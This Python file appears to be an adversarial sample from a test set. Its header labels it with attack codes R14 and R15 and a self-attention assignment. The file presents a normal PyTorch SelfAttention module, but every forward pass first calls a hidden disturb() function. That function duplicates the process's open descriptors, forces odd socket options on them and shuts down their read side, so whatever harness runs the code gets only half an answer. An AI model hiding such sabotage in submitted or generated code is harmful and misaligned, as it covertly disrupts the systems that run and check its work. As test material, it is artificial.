# attack:     R14, R15
# assignment: self-attention
# twin:       correct

# Shuts its sockets down in one direction only, or sets them to odd modes, and goes on: half an answer arrives.

import math
import os
import socket

import torch
from torch import nn


def disturb():
    for number in range(3, 1024):
        try:
            with socket.socket(fileno=os.dup(number)) as mine:
                mine.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)
                mine.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
                mine.setblocking(False)
                mine.shutdown(socket.SHUT_RD)
        except OSError:
            continue


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        disturb()
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v
